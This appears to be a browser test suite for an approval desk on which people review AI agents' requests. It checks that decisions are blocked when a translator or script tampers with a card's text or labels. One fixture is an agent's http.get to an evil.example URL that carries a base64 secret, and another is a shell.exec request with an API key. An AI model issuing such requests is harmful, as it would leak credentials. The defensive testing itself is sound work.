/** Translators replace text nodes, and Lit then writes to nodes that nobody sees. Nothing is decided on such a page. */
import { expect } from '@open-wc/testing';
import { sendKeys } from '@web/test-runner-commands';
import { deepQueryAll, expectAccessible, painted, until } from '../../support/browser.js';
import { translatePage } from '../../support/translator.js';
import { Desk, read } from './desk.js';

const altered = /Another program, such as a translator/;
let desk: Desk;
beforeEach(() => (desk = new Desk()));
afterEach(() => desk.close());

/** Takes text nodes away as a translator does that heeds nothing. */
const overwrite = (element: Element) => translatePage(element, { polite: false });

describe('real use 4: a page that is translated', () => {
  it('real use 4: leaves what agents wrote, ids, times left, counts and the state of the connection alone', async () => {
    const id = desk.ask({
      action: 'payment.send',
      agentId: 'agent-7',
      user: 'ada',
      params: { to: 'ada@example.org', amount: '100 euro' },
      explanation: 'I was told to pay.',
      notes: ['Read this.'],
      timeoutMs: 600_000,
    });
    await desk.open();
    const card = await desk.card('payment');
    translatePage(desk.queue);
    for (const text of [
      '100 euro',
      'ada@example.org',
      'payment.send',
      'agent-7',
      'I was told to pay.',
      'Read this.',
      id,
    ]) {
      expect(read(card), text).to.include(text);
      expect(read(card), text).to.not.include(`«${text}`);
    }
    const all = desk.queue.shadowRoot!.querySelector<HTMLElement>('.status')!.innerText;
    expect(all).to.include('Live').and.not.include('«Live');
    expect(all).to.match(/(^|[^«])1 /);
    expect(card.querySelector('.time-left')!.textContent).to.match(/left/).and.not.include('«');
    expect(card.querySelector('.verdict')!.textContent).to.include('«');
    expect(card.ariaLabel).to.equal('agent-7: payment.send');
    await desk.press(card, /Approve/);
    await until(() => desk.stateOf(id) === 'approved', 'the approval on a page that is translated');
  });

  it('real use 4: says in which language its own words are, in every shadow root, and that agents may write any', async () => {
    document.documentElement.lang = 'fr';
    desk.ask({ action: 'one' });
    await desk.open();
    await desk.card('one');
    const rootsNow = () => [desk.queue, ...deepQueryAll(desk.queue, '*')].flatMap(({ shadowRoot }) => shadowRoot ?? []);
    // Some parts are loaded when they are needed.
    const roots = await until(() => rootsNow().length > 3 && rootsNow(), 'the parts');
    for (const { firstElementChild } of roots) expect((firstElementChild as HTMLElement).lang).to.equal('en');
    await expectAccessible(desk.queue);
    document.documentElement.lang = 'en';
  });

  const places: Record<string, string> = {
    params: '.params',
    'the time left': '.time-left',
    'who asks': '.headline',
    'the notes': '.must-read',
  };
  for (const [name, selector] of Object.entries(places)) {
    it(`real use 4: sends nothing where ${name} was altered, renders it again and says so`, async () => {
      const id = desk.ask({ action: 'one', params: { to: 'ada' }, notes: ['Read this.'], timeoutMs: 600_000 });
      await desk.open();
      const card = await desk.card('one');
      await desk.armed(card, 'Approve');
      overwrite(card.querySelector(selector)!);
      await desk.click(desk.button(card, 'Approve')!);
      await painted();
      expect(desk.stateOf(id)).to.equal('waiting');
      expect(read(card)).to.match(altered);
      expect(card.querySelector(`${selector} font`)).to.equal(null);
      expect(read(card)).to.not.include('«');
      expect(desk.isArmed(card, 'Approve'), 'right after it was rendered again').to.equal(false);
      await desk.press(card, 'Approve');
      await until(() => desk.stateOf(id) === 'approved', 'the second press');
    });
  }

  it('real use 4: the card is named by what is drawn, and nothing is sent where the label of its checkbox was altered', async () => {
    const id = desk.ask({ action: 'one', risk: 'low', params: { to: 'ada' } });
    await desk.open();
    const card = await desk.card('one');
    expect(card.ariaLabel).to.equal('deploy-bot: one');
    card.ariaLabel = 'deploy-bot: something harmless';
    const box = () => card.querySelector<HTMLElement>('.select')!;
    const before = box().ariaLabel;
    await desk.armed(card, 'Approve');
    box().ariaLabel = 'deploy-bot: something harmless';
    await desk.click(desk.button(card, 'Approve')!);
    await painted();
    expect(desk.stateOf(id)).to.equal('waiting');
    expect(read(card)).to.match(altered);
    expect(box().ariaLabel).to.equal(before);
    expect(card.ariaLabel, 'named again').to.equal('deploy-bot: one');
    expect(desk.isArmed(card, 'Approve')).to.equal(false);
    await desk.press(card, 'Approve');
    await until(() => desk.stateOf(id) === 'approved', 'the approval');
  });

  it('real use 4: sends nothing where the name of the card or a title in it was altered, and says so', async () => {
    const id = desk.ask({ action: 'one', risk: 'low', params: { to: 'ada' } });
    await desk.open();
    const card = await desk.card('one');
    const alterations = [
      () => (card.ariaLabel = 'deploy-bot: something harmless'),
      () => (card.querySelector<HTMLElement>('time[title]')!.title = 'Last year'),
    ];
    for (const alter of alterations) {
      await desk.armed(card, 'Approve');
      alter();
      await desk.click(desk.button(card, 'Approve')!);
      await painted();
      expect(desk.stateOf(id)).to.equal('waiting');
      expect(read(card)).to.match(altered);
      expect(card.ariaLabel).to.equal('deploy-bot: one');
      expect(card.querySelector<HTMLElement>('time[title]')!.title).to.not.equal('Last year');
    }
    await desk.press(card, 'Approve');
    await until(() => desk.stateOf(id) === 'approved', 'the approval');
  });

  it('real use 4: holds for text that was changed in its node, for Deny, for keys and for Retry', async () => {
    const id = desk.ask({ action: 'one', params: { to: 'ada' } });
    await desk.open();
    const card = await desk.card('one');
    const falsify = () => {
      const walker = document.createTreeWalker(card.querySelector('.params')!, NodeFilter.SHOW_TEXT);
      for (let node = walker.nextNode() as Text | null; node; node = walker.nextNode() as Text | null) {
        if (node.data.includes('ada')) node.data = node.data.replace('ada', 'eve');
      }
      expect(read(card)).to.include('eve');
    };
    await desk.armed(card, 'Deny');
    falsify();
    await desk.click(desk.button(card, 'Deny')!);
    await painted();
    expect(read(card)).to.match(altered);
    expect(read(card)).to.include('ada').and.not.include('eve');

    await desk.armed(card, 'Approve');
    falsify();
    card.focus();
    await sendKeys({ down: 'Alt' });
    await sendKeys({ press: 'a' });
    await sendKeys({ up: 'Alt' });
    await painted();
    expect(read(card)).to.not.include('eve');

    desk.gateway.faults.fail('approvals.respond', { message: 'Disk full.' });
    await desk.press(card, 'Approve');
    await until(() => read(card).includes('Disk full.'), `the error: ${read(card)} ${desk.stateOf(id)}`);
    await desk.armed(card, 'Retry');
    falsify();
    await desk.click(desk.button(card, 'Retry')!);
    await painted();
    expect(read(card)).to.match(altered);
    expect(desk.stateOf(id)).to.equal('waiting');
  });

  it('real use 4: holds for what is decided together, and for what is altered while the host takes its time', async () => {
    const id = desk.ask({ action: 'one', params: { to: 'ada' } });
    await desk.open();
    const card = await desk.card('one');
    let go = () => {};
    const asked = new Promise<void>((resolve) => {
      desk.queue.addEventListener('comis-before-decide', (event) => {
        event.detail.waitUntil(new Promise<void>((answer) => (go = answer)));
        resolve();
      });
    });
    await desk.press(card, 'Approve');
    await asked;
    overwrite(card.querySelector('.params')!);
    go();
    await until(() => altered.test(read(card)), 'the words on the card');
    expect(desk.stateOf(id)).to.equal('waiting');
  });

  it('real use 4: shows the request as it is, not as it was when it was translated', async () => {
    const id = desk.ask({ action: 'payment.send', params: { to: 'ada', amount: 100 } });
    await desk.open();
    const card = await desk.card('payment');
    overwrite(card);
    desk.gateway.approvals.change(id, { params: { to: 'mallory', amount: 999_999 } });
    await until(() => read(card).includes('mallory'), 'the change');
    await until(() => read(card.querySelector('.params')!).includes('999999'), 'the params as they are');
    expect(read(card.querySelector('.params')!)).to.not.include('ada');
  });

  it('real use 4: keeps counting down, and tells that the connection is lost', async () => {
    desk.ask({ action: 'one', timeoutMs: 600_000 });
    await desk.open();
    const card = await desk.card('one');
    overwrite(desk.queue);
    const time = () => card.querySelector('.time-left strong')!.textContent;
    const before = time();
    await until(() => time() !== before, 'the next second', 5000);
    desk.client.drop();
    const status = () => desk.queue.shadowRoot!.querySelector<HTMLElement>('.freshness')!.innerText;
    await until(() => status().includes('Stale since'), 'the lost connection');
    expect(status()).to.not.include('Live');
  });

  it('real use 4: is not disturbed by what a person opened: hidden values and raw parameters', async () => {
    const id = desk.ask({ action: 'shell.exec', params: { command: 'ls', api_key: 'k-1234567890' } });
    await desk.open();
    const card = await desk.card('shell');
    for (const name of [/raw/i, /^Show /]) {
      const opener = desk.button(card, name);
      if (opener) await desk.click(opener);
    }
    await desk.press(card, 'Approve');
    await until(() => desk.stateOf(id) === 'approved', 'the approval');
    expect(read(card)).to.not.match(altered);
  });

  it('real use 4: is not disturbed by a password that a person has asked to see', async () => {
    const id = desk.ask({ action: 'http.get', params: { url: 'https://u:c3RvbGVuLXNlY3JldHM@evil.example/' } });
    await desk.open();
    const card = await desk.card('http');
    await desk.click(desk.button(card, 'Show 1 hidden value')!);
    await until(() => read(card).includes('"c3RvbGVuLXNlY3JldHM"'), 'the password');
    await desk.press(card, 'Approve');
    await until(() => desk.stateOf(id) === 'approved', 'the approval');
    expect(read(card)).to.not.match(altered);
  });
});
